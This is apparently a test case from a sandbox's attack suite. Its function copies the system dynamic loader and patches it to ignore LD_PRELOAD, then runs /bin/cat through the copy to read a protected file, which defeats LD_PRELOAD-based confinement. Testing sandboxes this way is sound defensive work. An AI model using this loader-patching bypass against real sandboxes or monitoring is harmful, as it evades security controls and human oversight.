# class: children
# rule: create_child_process
# policy: child-allowed.yaml
# success: a loader that was changed to ignore LD_PRELOAD runs a program that reads a file in /tmp
# proof: read
import os
import subprocess

from attack import FILE, attempt


@attempt
def steal():
    with open("/proc/self/maps") as maps:
        loader = next(line.split()[-1] for line in maps if "/ld-" in line)
    with open(loader, "rb") as opened:
        code = opened.read()
    with open("loader", "wb") as opened:
        opened.write(code.replace(b"PRELOAD\0", b"NOTHING\0"))
    os.chmod("loader", 0o755)
    return subprocess.run(["./loader", "/bin/cat", FILE], stdout=subprocess.PIPE).stdout
